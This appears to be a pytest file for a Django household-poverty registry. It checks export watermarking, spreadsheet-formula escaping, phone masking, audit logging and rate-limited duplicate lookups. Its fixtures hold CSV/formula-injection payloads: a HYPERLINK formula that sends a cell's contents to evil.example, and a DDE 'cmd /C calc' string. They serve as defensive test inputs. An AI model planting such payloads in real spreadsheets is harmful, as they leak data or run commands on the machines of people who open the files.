"""Personal data on the household surfaces: exports and the 户卡 PDF marked with user, time and purpose;
spreadsheet cells escaped against formulas (Excel and CSV); phones masked;
reads and searches audited once per request; the duplicate-person check that names nothing, is audited
and is limited per user and hour."""
import csv
import io
import re
import subprocess

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import AuditEvent
from conftest import GROUP_A1, VILLAGE_A, VILLAGE_B
from households.models import Member
from households.services import help_measure_add, member_add
from households.services.lookups import DUPLICATE_LOOKUP_LIMIT, LOOKUP_LIMIT_REACHED, REGISTERED_ELSEWHERE
from households.tests.factories import make_id_number, member_data, register_household
from povalleviation.errors import ApplicationError
from povalleviation.personal_data import mask_phone, spreadsheet_text
from villages.models import Area

pytestmark = pytest.mark.django_db

EXPORT_URL = "/households/imports/export/"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
COMMAND = "+cmd|' /C calc'!A0"
STAMP = re.compile(r"导出时间：\d{4}-\d{2}-\d{2} \d{2}:\d{2}")


@pytest.fixture
def hostile(village_cadre_a):
    """A household whose names and address begin with formula characters."""
    return register_household(
        actor=village_cadre_a, area=Area.objects.get(code=GROUP_A1), sequence=61, address="@SUM(1+1)*cmd",
        phone="13908771234",
        members=[member_data(61, name=HYPERLINK), member_data(62, name=COMMAND, relation="10", odd=False),
                 member_data(63, name="-2+3", relation="20")],
    )


def test_spreadsheet_text_escapes_every_formula_prefix():
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_text("李大") == "李大" and spreadsheet_text(-1) == -1 and spreadsheet_text(None) is None


def test_export_writes_formula_like_names_as_text_and_marks_every_sheet(client_for, village_cadre_a, hostile):
    response = client_for(village_cadre_a).get(EXPORT_URL, {"purpose": "上级检查"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["导出说明", "户信息", "成员信息", "收入信息", "帮扶措施", "下拉选项"]
    members = {row[2]: row for row in workbook["成员信息"].iter_rows(min_row=2, values_only=True)}
    assert set(members) == {"'" + HYPERLINK, "'" + COMMAND, "'-2+3"}
    for row in workbook["成员信息"].iter_rows(min_row=2):
        assert row[2].data_type == "s" and not str(row[2].value).startswith(("=", "+", "-", "@"))
    household_row = next(workbook["户信息"].iter_rows(min_row=2))
    assert household_row[2].value == "'" + HYPERLINK and household_row[4].value == "'@SUM(1+1)*cmd"
    assert household_row[5].value == "139****1234"  # phone masked like the ID numbers
    mark = workbook["导出说明"]["A1"].value
    assert f"导出人：{village_cadre_a.username}" in mark and "用途：上级检查" in mark
    assert STAMP.search(mark)
    for sheet in workbook:
        assert "用途：上级检查" in sheet.oddHeader.center.text and village_cadre_a.username in sheet.oddFooter.center.text
    assert "用途：上级检查" in workbook.properties.description
    audit = AuditEvent.objects.get(action="household.export")
    assert audit.changes["purpose"] == "上级检查" and "用途：上级检查" in audit.summary and audit.area_code == VILLAGE_A


def test_csv_export_escapes_cells_and_starts_with_the_mark(client_for, village_cadre_a, hostile):
    response = client_for(village_cadre_a).get(EXPORT_URL, {"purpose": "数据比对", "format": "csv", "sheet": "成员信息"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0].startswith(f"导出人：{village_cadre_a.username}") and "用途：数据比对" in rows[0][0]
    names = [row[2] for row in rows[2:]]
    assert names == ["'" + HYPERLINK, "'" + COMMAND, "'-2+3"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_export_asks_for_a_purpose_first_and_writes_nothing_without_one(client_for, village_cadre_a, hostile):
    client = client_for(village_cadre_a)
    for params in ({}, {"purpose": " x "}):
        page = client.get(EXPORT_URL, {"area": VILLAGE_A, **params})
        body = page.content.decode()
        assert page.status_code == 200 and page["Content-Type"].startswith("text/html")
        assert 'name="purpose"' in body and f'name="area" value="{VILLAGE_A}"' in body
    assert "请填写用途" in client.get(EXPORT_URL, {"purpose": "x"}).content.decode()
    assert not AuditEvent.objects.filter(action="household.export").exists()


def test_household_pdf_carries_user_time_and_purpose_on_every_page(client_for, village_cadre_a, hostile):
    for index in range(45):  # enough measures for a card of several pages
        help_measure_add(actor=village_cadre_a, household=hostile,
                         data={"category": "industry", "measure": f"发展产业第 {index + 1} 项", "year": 2020})
    response = client_for(village_cadre_a).get(f"/households/{hostile.pk}/card.pdf", {"purpose": "入户核查"})
    assert response["Content-Type"] == "application/pdf"
    info = subprocess.run(["pdfinfo", "-"], input=response.content, capture_output=True, check=True).stdout.decode()
    pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))
    assert pages >= 2
    for page in range(1, pages + 1):
        text = subprocess.run(["pdftotext", "-f", str(page), "-l", str(page), "-layout", "-", "-"],
                              input=response.content, capture_output=True, check=True).stdout.decode()
        squeezed = "".join(text.split())
        assert f"导出人：{village_cadre_a.username}" in squeezed and "用途：入户核查" in squeezed, page
    audit = AuditEvent.objects.get(action="household.pdf")
    assert audit.actor == village_cadre_a and audit.area_code == GROUP_A1 and audit.changes == {"purpose": "入户核查"}


def test_phone_masked_on_card_api_and_list(client_for, api_for, township_officer, hostile):
    assert mask_phone("13908771234") == "139****1234" and mask_phone("0389-1234567") == "038****4567"
    assert mask_phone("") == "" and mask_phone("12345") == "****"
    card = client_for(township_officer).get(f"/households/{hostile.pk}/").content.decode()
    assert "139****1234" in card and "13908771234" not in card and "查看完整号码" in card
    api = api_for(township_officer)
    assert api.get(f"/api/v1/households/{hostile.pk}/").json()["phone"] == "139****1234"
    assert api.get("/api/v1/households/").json()["results"][0]["phone"] == "139****1234"


def test_reads_are_audited_with_the_household_area(client_for, api_for, auditor, hostile):
    client_for(auditor).get(f"/households/{hostile.pk}/")
    api_for(auditor).get(f"/api/v1/households/{hostile.pk}/")
    api_for(auditor).get(f"/api/v1/households/{hostile.pk}/members/")
    events = AuditEvent.objects.filter(actor=auditor, action__startswith="household.").order_by("id")
    assert [(e.action, e.area_code, e.object_id) for e in events] == [
        ("household.view", GROUP_A1, str(hostile.pk)), ("household.view", GROUP_A1, str(hostile.pk)),
        ("household.members_view", GROUP_A1, str(hostile.pk)),
    ]
    assert all(e.role == "auditor" and e.outcome == "success" for e in events)


def test_search_writes_one_audit_row_per_request_and_masks_id_numbers(client_for, api_for, county_officer,
                                                                      many_households_a, django_assert_num_queries):
    many_households_a(3)
    client = client_for(county_officer)
    client.get("/households/")  # no search for people: nothing recorded
    assert not AuditEvent.objects.filter(action="household.search").exists()
    client.get("/households/", {"q": "户主"})  # three households shown, one row
    searched = AuditEvent.objects.get(action="household.search")
    assert searched.changes == {"q": "户主", "results": 3, "channel": "页面"} and searched.area_code
    number = make_id_number(400)
    api_for(county_officer).get("/api/v1/households/", {"q": number})
    by_id = AuditEvent.objects.filter(action="household.search").latest("id")
    assert by_id.changes["q"] == number[:6] + "********" + number[-4:] and number not in by_id.summary
    assert by_id.changes["results"] == 1 and by_id.changes["channel"] == "接口"
    many_households_a(3, start=410)
    before = AuditEvent.objects.filter(action="household.search").count()
    client.get("/households/", {"q": "户主"})
    assert AuditEvent.objects.filter(action="household.search").count() == before + 1


def _try_add(actor, household, sequence, region="530427"):
    data = member_data(sequence, name="测试", relation="80") | {"id_number": make_id_number(sequence, region=region)}
    return member_add(actor=actor, household=household, data=data)


def test_duplicate_lookup_names_nothing_is_audited_and_limited(village_cadre_a, village_cadre_b, household_a, household_b):
    registered = make_id_number(101)  # 李大 of 太和村, outside cadre B's village
    for _attempt in range(DUPLICATE_LOOKUP_LIMIT):
        with pytest.raises(ApplicationError) as refused:
            member_add(actor=village_cadre_b, household=household_b,
                       data=member_data(101, name="李大", relation="80"))
        assert refused.value.message == REGISTERED_ELSEWHERE and "李大" not in refused.value.message
    hits = AuditEvent.objects.filter(action="household.duplicate_lookup", actor=village_cadre_b)
    assert hits.count() == DUPLICATE_LOOKUP_LIMIT and {h.outcome for h in hits} == {"denied"}
    assert {h.area_code for h in hits} == {VILLAGE_B} and all(registered not in h.summary for h in hits)
    # Past the limit even a number registered nowhere is refused: the answer tells nothing.
    with pytest.raises(ApplicationError) as limited:
        _try_add(village_cadre_b, household_b, 777)
    assert limited.value.message == LOOKUP_LIMIT_REACHED and limited.value.code == "lookup_limit"
    with pytest.raises(ApplicationError) as limited_hit:
        member_add(actor=village_cadre_b, household=household_b, data=member_data(101, name="李大", relation="80"))
    assert limited_hit.value.message == LOOKUP_LIMIT_REACHED
    assert AuditEvent.objects.filter(action="household.duplicate_lookup_limited", actor=village_cadre_b).count() == 2
    assert not Member.objects.filter(household=household_b, name__in=["测试", "李大"]).exists()
    # Another user is not limited, and a duplicate inside one's own scope still names the household.
    with pytest.raises(ApplicationError) as own:
        member_add(actor=village_cadre_a, household=household_a, data=member_data(201, name="刀二", relation="80"))
    assert "刀二" not in own.value.message and own.value.message == REGISTERED_ELSEWHERE
    assert _try_add(village_cadre_a, household_a, 778).name == "测试"


def test_duplicate_lookup_window_ends_after_an_hour(village_cadre_b, household_a, household_b, monkeypatch):
    for _ in range(DUPLICATE_LOOKUP_LIMIT):
        with pytest.raises(ApplicationError):
            member_add(actor=village_cadre_b, household=household_b, data=member_data(101, name="李大", relation="80"))
    later = timezone.now() + timezone.timedelta(hours=1, minutes=1)
    monkeypatch.setattr("households.services.lookups.timezone.now", lambda: later)
    assert _try_add(village_cadre_b, household_b, 779).household_id == household_b.pk


def test_duplicate_message_on_the_api_names_no_place(api_for, village_cadre_b, household_a, household_b):
    response = api_for(village_cadre_b).post(f"/api/v1/households/{household_b.pk}/members/",
                                             member_data(102, name="王秀", relation="80", odd=False), format="json")
    body = response.content.decode()
    assert response.status_code == 400 and "已登记在册" in body
    assert "太和" not in body and household_a.household_number not in body and VILLAGE_A not in body
    assert AuditEvent.objects.filter(action="household.duplicate_lookup", actor=village_cadre_b).count() == 1
    assert VILLAGE_B in {e.area_code for e in AuditEvent.objects.filter(action="household.duplicate_lookup")}


def test_edit_page_is_an_audited_read_and_keeps_the_audit_of_a_refused_lookup(client_for, village_cadre_b, household_a,
                                                                              household_b):
    cadre = client_for(village_cadre_b)
    assert cadre.get(f"/households/{household_b.pk}/edit/").status_code == 200
    opened = AuditEvent.objects.get(action="household.edit_view")
    assert opened.actor == village_cadre_b and opened.area_code == VILLAGE_B
    head = household_b.members.get()
    data = {
        "identification_year": "2016", "category": "general", "primary_cause": "LACK_FUNDS",
        "version": str(household_b.version), "members-TOTAL_FORMS": "2", "members-INITIAL_FORMS": "1",
        "members-MIN_NUM_FORMS": "1", "members-MAX_NUM_FORMS": "1000",
        "members-0-member_id": head.pk, "members-0-name": head.name, "members-0-id_number": head.id_number,
        "members-0-relation": "02", "members-0-health_status": "healthy", "members-0-labour_capacity": "full",
        # 王秀 is registered in 太和村, outside cadre B's village.
        "members-1-name": "王秀", "members-1-id_number": make_id_number(102, odd=False), "members-1-relation": "80",
        "members-1-health_status": "healthy", "members-1-labour_capacity": "full",
    }
    response = cadre.post(f"/households/{household_b.pk}/edit/", data)
    body = response.content.decode()
    assert response.status_code == 400 and "已登记在册" in body and "李大" not in body and "太和" not in body
    hit = AuditEvent.objects.get(action="household.duplicate_lookup")
    assert hit.actor == village_cadre_b and hit.outcome == "denied" and hit.area_code == VILLAGE_B
    assert household_b.members.count() == 1


def test_an_import_file_is_a_counted_audited_lookup_and_names_no_row_past_the_limit(village_cadre_a, household_b):
    from households.imports.pipeline import import_workbook
    from households.services.lookups import count_lookup
    from households.tests.import_files import household_with_spouse, workbook_bytes

    household, people = household_with_spouse(0)
    people[1]["身份证号"] = make_id_number(201)  # 刀二 of 勐炳村, outside cadre A's village
    outcome = import_workbook(source=workbook_bytes([household], people), actor=village_cadre_a, dry_run=True)
    (error,) = outcome.result.errors.sorted()
    assert error.row == 3 and error.message == REGISTERED_ELSEWHERE
    audit = AuditEvent.objects.get(action="household.duplicate_lookup", actor=village_cadre_a)
    assert audit.changes["count"] == 1 and audit.area_code == VILLAGE_A and make_id_number(201) not in str(audit.changes)
    count_lookup(village_cadre_a, DUPLICATE_LOOKUP_LIMIT)  # the hour's allowance is used up
    outcome = import_workbook(source=workbook_bytes([household], people), actor=village_cadre_a, dry_run=True)
    (limited,) = outcome.result.errors.sorted()
    assert limited.row is None and limited.message == LOOKUP_LIMIT_REACHED
    assert AuditEvent.objects.filter(action="household.duplicate_lookup_limited", actor=village_cadre_a).count() == 1
